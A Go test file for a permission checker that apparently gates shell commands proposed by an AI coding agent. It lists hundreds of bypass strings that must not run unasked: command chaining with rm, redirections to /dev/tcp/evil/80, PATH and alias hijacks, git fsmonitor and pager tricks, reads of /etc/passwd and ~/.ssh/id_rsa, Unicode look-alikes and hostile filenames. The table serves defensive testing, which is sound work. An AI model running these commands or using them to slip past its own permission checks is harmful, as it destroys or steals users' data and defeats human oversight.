package permission_test

import (
	"os"
	"path/filepath"
	"runtime"
	"testing"

	"github.com/hookline-dev/hookline/hook"
	"github.com/hookline-dev/hookline/permission"
)

// Ways around the rule Bash(git status:*), and around what runs unasked because it
// only reads. None may run without a question.
var bypasses = []string{
	// More commands, whatever joins them.
	"git status; rm -rf x", "git status&rm x", "git status || rm x", "git status\nrm x", "git status # x\nrm x", "git status |& rm x",
	"git status $(rm x)", "git status `rm x`", "git status <(rm x)", "git status >(rm x)", "git status ${x:-$(rm x)}", "git status \"${x/$(rm x)/}\"",
	"git status ${a[$(rm x)]}", "git status $((a[$(rm x)]))", "git status $[a[$(rm x)]]", "git status <<E\n$(rm x)\nE", "git status <<'E'\nx\nE\nrm x",
	"if git status; then rm x; fi", "for x in a; do rm $x; done", "case $(rm x) in *) git status;; esac", "coproc rm x", "f() { rm x; }; git status",
	"git status \\\n; rm x", "git status\r", "git status\u2028rm x", "git\u00a0status", "g\u0456t status", "git status\uff1brm x", "\ufeffgit status",

	// Files written, read and connected to by redirections.
	"git status > README.md", "git status >> README.md", "git status >| README.md", "git status &> README.md", "git status &>> README.md",
	"git status <> new", "git status 3> README.md", "git status {fd}> README.md", "git status >& README.md", "git status > ~/x", "git status > ~root/x",
	"git status > /dev/tcp/evil/80", "git status < /dev/tcp/evil/80", "git status > /dev/tty", "echo -e '\\e]52;c;x\\a' > /dev/tty", "cat < /dev/tty",
	"exec > x", "exec 3<> x", "exec 3< /etc/passwd; cat <&3",

	// Other programs of the name, or other settings for it.
	"./git status", "bin/git status", "~/git status", "$GIT status", "g* status", "PATH=. git status", "PATH+=:. git status", "PATH=.; git status",
	"export PATH=.; git status", "declare -x PATH=.; git status", "readonly PATH=.; git status", "unset PATH; git status", "for PATH in .; do git status; done",
	"select PATH in .; do git status; done", "read PATH <<< .; git status", "getopts a PATH; git status", "mapfile -t PATH <<< .; git status",
	"declare -n x=PATH; x=.; git status", "x=PATH; export $x=.; git status", "export \"$x\"=.; git status", "export \"a[$x]=1\"",
	": ${PATH:=.}; git status", "echo $((PATH=1)); git status", "echo ${a[PATH=1]}; git status", "echo ${x:PATH=1}; git status", "a[PATH=1]=2; git status",
	"a=([PATH=1]=2); git status", "[[ PATH=1 -eq 1 ]]; git status", "for ((PATH=1;0;)); do :; done; git status", "let PATH=1; git status",
	"x='PATH=1'; echo $((x)); git status", "printf 'x%n' PATH; git status", "printf -- '%5n' PATH; git status", "printf \"$f\" PATH; git status",
	"printf -vPATH .; git status", "ls {PATH}>/dev/null; git status", "{ ls; } {PATH}</dev/null; git status", "coproc PATH { ls; }; git status",
	"wait -p PATH; git status", "wait -fnp PATH; git status", "hash -p ./evil git; git status", "BASH_CMDS[git]=./evil; git status",
	"BASH_ALIASES[git]=./evil; git status", "alias git=./evil; git status", "git() { ./evil; }; git status", "function git { ./evil; }; git status",
	"enable -f ./x.so ls", "set -k; ls PATH=.", "LD_PRELOAD=./x git status", "LD_LIBRARY_PATH=. git status", "GIT_DIR=/tmp/e git status",
	"GIT_SSH_COMMAND=evil git status", "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0=./evil git status",
	"export GIT_DIR=/tmp/e; git status", "env PATH=. git status", "env -S 'git status'", "env -S'rm x'", "env --split-string='rm x'", "BASH_ENV=x bash -c 'git status'",
	"git -c core.pager=evil status", "git -c core.fsmonitor=./evil status", "git --config-env=core.fsmonitor=X status", "git --exec-path=. status",
	"git --exec-path . status", "git --git-dir=x status", "git --work-tree=/ status", "git -p status", "git config alias.status '!rm'", "git config -e",
	"git $X", "git st*", "{git,status}", "git {status,log}",

	// Commands that start others.
	"command rm x", "builtin eval rm", "exec rm x", "eval 'git status; rm x'", "time rm x", "\\time -o README.md git status", "env time -o README.md git status",
	"nohup rm x", "timeout 5 rm x", "timeout -s KILL 5 rm x", "nice rm x", "stdbuf -oL rm x", "setsid rm x", "ionice -c 3 rm x", "chroot . ls", "unshare ls",
	"flock x rm y", "flock x -c 'rm y'", "watch 'git status'", "script -c 'git status'", "strace -o x git status", "parallel rm ::: x", "env X=1 sudo ls",
	"sudo git status", "doas git status", "su -c 'git status'", "xargs rm", "xargs -I{} sh -c '{}'", "ls | xargs cat", "echo /etc/passwd | xargs cat",
	"xargs -a /etc/passwd echo", "xargs --arg-file=/etc/passwd git status", "find . -exec rm {} \\;", "find . -exec {} \\;", "find . -execdir ./evil \\;",
	"find . -ok rm {} \\;", "find . -delete", "find . -fprint x", "find . -fprintf x y", "find . -fls x", "find . -files0-from x", "bash -c 'rm x'",
	"bash -c '$0' rm", "bash -c '\"$@\"' _ rm x", "bash --rcfile ./evil -ic ls", "bash -lc ls", "bash x", "bash -s < x", "sh x", "zsh -c ls",
	"zsh -c \"printf %d 'a[\\$(rm x)]'\"", "ksh -c ls", "fish -c ls", "busybox sh -c 'rm x'", "source x", ". ./x", "trap 'rm x' EXIT",
	"ssh -o ProxyCommand='rm x' h", "scp -S ./evil a h:", "rsync -e 'rm x' a b", "tar --to-command='rm x' -xf a", "tar -cf x --checkpoint-action=exec=sh .",
	"tar -I ./evil -xf a", "zip -T -TT 'rm x' a b", "sed -i s/a/b/ x", "sed 's/x/y/e' README.md", "sed -n '1e rm x' README.md", "sed -n '1w y' README.md",
	"sed -n 1p README.md -i", "awk 'BEGIN{system(\"rm x\")}'", "awk '{print > \"x\"}' README.md", "perl -e 1", "python3 -c 1", "node -v -e 1", "ruby -v -e 1",
	"sort -o x README.md", "sort README.md -ox", "sort --compress-program=./evil README.md", "ls | tee x", "rg --pre ./evil foo", "rg --hostname-bin=./evil foo",
	"less README.md", "LESSOPEN='|rm x' less README.md", "man -P 'rm x' ls", "vi x", "git log --ext-diff", "git grep -O./evil foo", "git grep --open=evil foo",
	"git diff --output=x", "git log --output-directory=x", "git cat-file --textconv HEAD:x", "git log --help", "git submodule foreach rm x", "git bisect run rm x",
	"git rebase -x 'rm x'", "git ls-remote ext::sh", "git reflog expire --all", "git branch --list -d x", "git tag -l x -d y", "git stash list --output=x",

	// Values that bash reads twice.
	"x='a[$(rm x)]'; echo $((x))", "x='a[$'; z=$x'(rm x)]'; echo $((z))", "x='a[$'; z=$x'(rm x)]'; echo ${q:z}", "x='a[$'; z=$x'(rm x)]'; echo ${q[z]}",
	"x='a[$'; z=$x'(rm x)]'; q[z]=1", "x='a[$'; z='(rm x)]'; [[ $x$z -eq 1 ]]", "x='a[$'; z=$x'(rm x)]'; [ -v $z ]", "x='a[$'; z=\"-v $x(rm\\${IFS}x)]\"; [ $z ]",
	"n=$(cat README.md); echo $((n))", "for f in *; do [ -f $f ] && ls; done", "[ -v 'a[$(rm x)]' ]", "[[ 'a[$(rm x)]' -eq 1 ]]", "echo ${x@P}",
	"bash -c 'echo $(($1))' _ 'a[$'\"(rm x)]\"", "unset 'a[$(rm x)]'", "read 'a[$(rm x)]'",

	// Files outside of the project.
	"cat /etc/passwd", "cat ~/.ssh/id_rsa", "cat ~root/x", "cat ~+/../x", "cat ~-/x", "cat ../x", "cat src/../../x", "cat etc/passwd", "cat e*/passwd", "cat [e]tc/passwd",
	"cat */passwd", "cat .*/x", "cat */../../x", "cat {/etc/passwd,x}", "cat /{etc/passwd,x}", "cat @(/etc/passwd)", "cat $X", "cat \"$PWD/../x\"", "cd .. && cat x",
	"cd etc && ls", "cd -; cat x", "OLDPWD=/etc; cd -; cat passwd", "CDPATH=/ cd etc; cat passwd", "cd src && cat ../../x", "cd src/.. && cat ../x", "pushd ..; cat x",
	"env -C / ls root", "env --chdir=/ cat root", "echo $(< /etc/passwd)", "echo `</etc/passwd`", "echo /etc/*", "printf '%s\\n' /etc/*", "grep -R x .",
	"grep -rR x .", "grep --deref x .", "grep -r x etc/", "grep x -r ..", "rg -L foo", "rg --follow foo", "rg -uuuL foo", "find -L . -name x", "find . -follow",
	"find -H etc/ -name x", "find . -exec cat {} +", "find . -name passwd -exec cat {} +", "find etc/ -exec cat {} +", "tree -l", "ls -L .", "diff -r . src", "ls *",
	"wc --files0-from=/etc/passwd", "grep -f/etc/passwd x", "diff --to-file=/etc/passwd x", "git diff --no-index x /etc/passwd", "git grep -f /etc/passwd",
	"git blame --contents=/etc/passwd x", "file -bf/etc/passwd", "file -bf README.md", "file --files-from=README.md", "grep -nf/etc/passwd x",
	"git grep -nf/etc/passwd", "rg -nf../x", "du -sX/etc/passwd", "cd sub && diff --from-file=passwd x", "cd sub && grep -fpasswd x", "cd sub && grep -nfpasswd x",
	"X=$(cat ../x) cd sub && ls", "cd sub <(cat ../x) && ls", "cd sub > ../x && ls", "cd sub && cat passwd", "cd sub && cat ../../x", "cd sub && cat ../x > ../../y", "cd sub || cat ../x; cat ../y",
	"cd sub && cat $PWD/passwd", "cat $PWD/../x", "cat \"$PWD\"x/y", "PWD=/etc; cat $PWD/passwd", "PWD=/etc && cat \"$(pwd)\"/../x", "cat $(git rev-parse --show-toplevel)/../x", "x=$PWD; cd sub; cat $x/passwd",
	"f=/etc/passwd; cat $f", "f=x; f=/etc/passwd; cat $f", "for f in x /etc/passwd; do cat $f; done", "f=..; cat $f/x", "f=../x; cat \"$f\"", "for f in *; do cat $f/../../x; done", "for f in sub/*; do cat \"$f\"; done",
	"f=~/x; cat $f", "f=/etc; for g in $f/*; do cat $g; done", "a=/et b=c; cat $a$b/passwd", "f='x /etc/passwd'; cat $f", "f='/etc/*'; ls $f", "f=-Lx; ls . \"$f\" .",
	"find . -execdir cat passwd \\;", "find sub -execdir sh -c 'cat passwd' \\;", "find . -execdir git status \\;", "find . | xargs cat", "find . -type l | xargs cat", "find . -print -type f | xargs cat", "find sub | sort | xargs cat",
	"find . -type f | xargs -a /etc/passwd cat", "find . -type f | sed s,x,/etc, | xargs cat", "find / -type f | xargs cat", "find . -type f -printf '/etc/%f' | xargs cat", "find . -type f | head -c 9 | xargs cat", "find . -type f | xargs uniq",
	"find . -type f | xargs cat ../x", "find . -type f | xargs -I{} cat {}/../../x", "find . -type f | grep -o x | xargs cat", "find . -type f -print0 | xargs cat", "find . -type f | xargs -0 cat", "find -L . -type f | xargs cat",
	"sed -n 1p /etc/passwd", "sed '' etc/passwd", "sed -f README.md x", "sed --file=README.md x", "sed -ni 1p x", "sed 'r /etc/passwd' x", "sed -e p -e 'w y' x", "sed -e 's/x/y/' -i x", "sed --in-place p x", "sed $X README.md", "sed 's/[/]/x/w y' x",
	"awk 1 /etc/passwd", "awk -f README.md", "awk 'BEGIN{while((getline l < \"/etc/passwd\")>0) print l}'", "awk -i inplace 1 x", "awk '{print | \"sh\"}' x", "awk 'BEGIN{ARGV[1]=\"/etc/passwd\"}1' x", "awk \"$P\" x", "awk 1 ../x",
	"read PATH < x; git status", "read -r 'a[$(rm x)]' < x", "IFS=x read PATH < x", "IFS= ls", "IFS=x; ls", "read < /etc/passwd", "cat <(cat /etc/passwd)", "cat < <(cat ../x)", "sort <(rm x)", "while read -r x; do rm $x; done < x",
	"git -c color.ui=never -c core.fsmonitor=./evil status", "git -c core.pager=./evil log", "git -c diff.external=./evil diff", "git config a.b c", "git config core.pager ./evil", "git config edit", "cat $(git rev-parse HEAD)", "git log $(cat x)",
	"PAGER='cat; rm x' git log", "GIT_EDITOR=vi git status", "NODE_ENV='$(rm x)' ls", "export GIT_PAGER=./evil; git log", "for GIT_PAGER in ./evil; do git log; done", "tee x", "tee /dev/null x", "ps auxe", "ps -E", "uniq *", "xxd *", "uniq x*", "go version -m x", "go env -w A=b",
	"jq 'import \"../x\" as $x; $x' README.md", "jq -L/etc -n 'include \"x\"; .'", "jq -nf prog", "jq --from-file prog -n",
}

func TestBypasses(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("the table is about paths of a POSIX shell")
	}
	p := project(t)
	if err := os.Symlink("/etc/passwd", filepath.Join(p, "sub", "passwd")); err != nil {
		t.Fatal(err)
	}
	c := checker(t, permission.Config{
		Rules: entries(t, permission.Allow, permission.ScopeUser, "Bash(git status:*)"), ProjectDir: p, Home: filepath.Join(filepath.Dir(p), "home"),
	})
	for _, text := range bypasses {
		if d := c.Decide(permission.Request{Tool: "Bash", Input: command(text), Cwd: p}); d.Decision == hook.DecisionAllow {
			t.Errorf("%q runs unasked: %s", text, d.Reason)
		}
	}
	for _, text := range []string{
		"git status", "git status -s", "git status *", "command git status", "time git status", "timeout 5 git status", "! git status", "(git status)", "git status 2>&1 | head -5",
		"cd src && git status", "git status -- $(ls)", "cat src/*.go", "grep -rn x src", "find . -type f -name '*.go' -exec git status \\;", "echo *.md", "n=$(ls | wc -l); git status", "grep x --include=*.go -r .",
	} {
		if d := c.Decide(permission.Request{Tool: "Bash", Input: command(text), Cwd: p}); d.Decision != hook.DecisionAllow {
			t.Errorf("%q is %v: %s", text, d.Decision, d.Reason)
		}
	}
}

// Names that a command takes for something else than a file of the project.
func TestHostileNames(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("the names are those of a POSIX system")
	}
	p := project(t)
	for _, name := range []string{"opt/--output=x.md", "opt/b.md", "blank/x /etc/passwd", "quote/a'b", "star/x*", "flat/-Lx"} {
		file := filepath.Join(p, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, nil, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	c := checker(t, permission.Config{ProjectDir: p})
	for text, want := range map[string]string{
		"cd opt && sort *.md": "ask", "cd opt && sort ./*.md": "allow", "cd opt && sort *": "ask", "cd opt && for f in *; do sort \"$f\"; done": "ask", "cd flat && ls *": "ask", "cd opt && sort b*": "allow",
		"find blank -type f | xargs cat": "ask", "find quote -type f | xargs cat": "ask", "find star -type f | xargs cat": "ask", "cat blank/*": "allow", "cd blank && cat *": "allow", "cat star/*": "allow",
		"for f in blank/*; do cat $f; done": "ask", "for f in star/*; do cat $f; done": "ask",
	} {
		if d := c.Decide(permission.Request{Tool: "Bash", Input: command(text), Cwd: p}); d.Decision.String() != want {
			t.Errorf("%q is %v, not %s: %s", text, d.Decision, want, d.Reason)
		}
	}
}

// Files that a deny rule forbids to read are found behind patterns, in directories
// that are searched, and behind links.
func TestDenyRulesForReadingInCommands(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("the table is about paths of a POSIX shell")
	}
	p := project(t)
	for _, f := range []string{".env", "sub/.env"} {
		if err := os.WriteFile(filepath.Join(p, filepath.FromSlash(f)), []byte("KEY=1"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	c := checker(t, permission.Config{Rules: entries(t, permission.Deny, permission.ScopeUser, "Read(./secrets/**)", "Read(**/.env)"), ProjectDir: p})
	for text, want := range map[string]string{
		"cat secrets/key": "deny", "cat s*/key": "deny", "cat secrets/*": "deny", "cat secrets/k??": "deny", "cat k*": "deny", "cat < s*/key": "deny",
		"cat .e*": "deny", "cat sub/.*v": "deny", "cat s*/.env": "deny", "cat {secrets,x}/key": "ask", "cat .*": "ask",
		"grep -r KEY .": "ask", "grep -rn KEY": "ask", "rg KEY": "ask", "rg -uu KEY sub": "ask", "diff -r sub src": "ask", "find . -exec cat {} +": "ask",
		"find . -name '.e*' -exec cat {} +": "ask", "find sub -type f -exec cat {} +": "ask",
		"cat *.md": "allow", "cat src/*": "allow", "grep -r KEY src": "allow", "rg KEY src": "allow", "grep KEY README.md": "allow",
		"find src -exec cat {} +": "ask", "xargs cat < README.md": "ask", "cat $F": "ask", "cat < $F": "ask", "ls": "allow",
	} {
		if d := c.Decide(permission.Request{Tool: "Bash", Input: command(text), Cwd: p}); d.Decision.String() != want {
			t.Errorf("%q is %v, not %s: %s", text, d.Decision, want, d.Reason)
		}
	}
	// Also beside a rule that allows all of Bash.
	all := checker(t, permission.Config{Rules: append(entries(t, permission.Deny, permission.ScopeUser, "Read(**/.env)", "Edit(./locked/**)"), entries(t, permission.Allow, permission.ScopeUser, "Bash")...), ProjectDir: p})
	for text, want := range map[string]string{
		"cat $F": "ask", "grep x \"$F\"": "ask", "cat < $F": "ask", "for f in .e*; do cat $f; done": "ask", "find . | xargs cat": "ask", "cp $F y": "ask", "rm $F": "ask", "echo x > $F": "ask", "cat .env": "deny", "rm locked/x": "deny", "echo $F": "allow", "npm run $X": "allow", "cat README.md": "allow",
	} {
		if d := all.Decide(permission.Request{Tool: "Bash", Input: command(text), Cwd: p}); d.Decision.String() != want {
			t.Errorf("beside Bash: %q is %v, not %s: %s", text, d.Decision, want, d.Reason)
		}
	}
	hidden := c.Hidden()
	for name, want := range map[string]bool{"secrets/key": true, "sub/.env": true, ".env": true, "README.md": false, "src/a.go": false} {
		if hidden(filepath.Join(p, filepath.FromSlash(name))) != want {
			t.Errorf("%s is hidden: %v", name, !want)
		}
	}
	if checker(t, permission.Config{ProjectDir: p}).Hidden() != nil {
		t.Error("without rules files are hidden")
	}
}

// repository makes a directory that git takes for a repository, without being called
// .git, as a checkout can bring it along.
func repository(t *testing.T, dir string) {
	t.Helper()
	for _, d := range []string{"objects", "refs"} {
		if err := os.MkdirAll(filepath.Join(dir, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for name, text := range map[string]string{"HEAD": "ref: refs/heads/main\n", "config": "[core]\n\tfsmonitor = ./evil\n"} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// A rule that allows git speaks of the repository at hand, not of one that the command
// moves to.
func TestOtherRepositories(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("the commands are those of a POSIX shell")
	}
	p := project(t)
	repository(t, filepath.Join(p, ".git"))
	repository(t, filepath.Join(p, "sub", "laid out"))
	repository(t, filepath.Join(p, "sub", "nested", ".git"))
	allow := []string{"Bash(git status:*)", "Bash(git -C sub/nested log:*)", "Bash(cd sub/nested && git status -s)"}
	decide := func(c *permission.Checker, text string) permission.Decision {
		return c.Decide(permission.Request{Tool: "Bash", Input: command(text), Cwd: p})
	}
	for text, want := range map[string]string{
		"git status": "allow", "cd src && git status": "allow", "cd sub; git status": "allow", "cd sub/nested && git rev-parse HEAD": "allow", "git diff": "ask",
		"cd sub/nested && git status": "ask", "cd 'sub/laid out' && git status": "ask", "cd 'sub/laid out/objects'; git status": "ask", "bash -c 'cd sub/nested; git status'": "ask",
		"cd sub/nested && timeout 5 git status": "ask", "ls; cd sub; cd nested; git status": "ask",
		"git -C sub/nested log": "allow", "cd sub/nested && git status -s": "allow", // by rules for exactly this
	} {
		c := checker(t, permission.Config{ProjectDir: p, Rules: entries(t, permission.Allow, permission.ScopeUser, allow...)})
		d := decide(c, text)
		if d.Decision.String() != want {
			t.Errorf("%q: %v: %s", text, d.Decision, d.Reason)
		}
		if want == "allow" {
			continue
		}
		if err := c.Apply(t.Context(), d.Suggestions...); err != nil {
			t.Error(err)
		}
		if again := decide(c, text); again.Decision != hook.DecisionAllow {
			t.Errorf("%q: after %+v: %s", text, d.Suggestions, again.Reason)
		}
	}
}
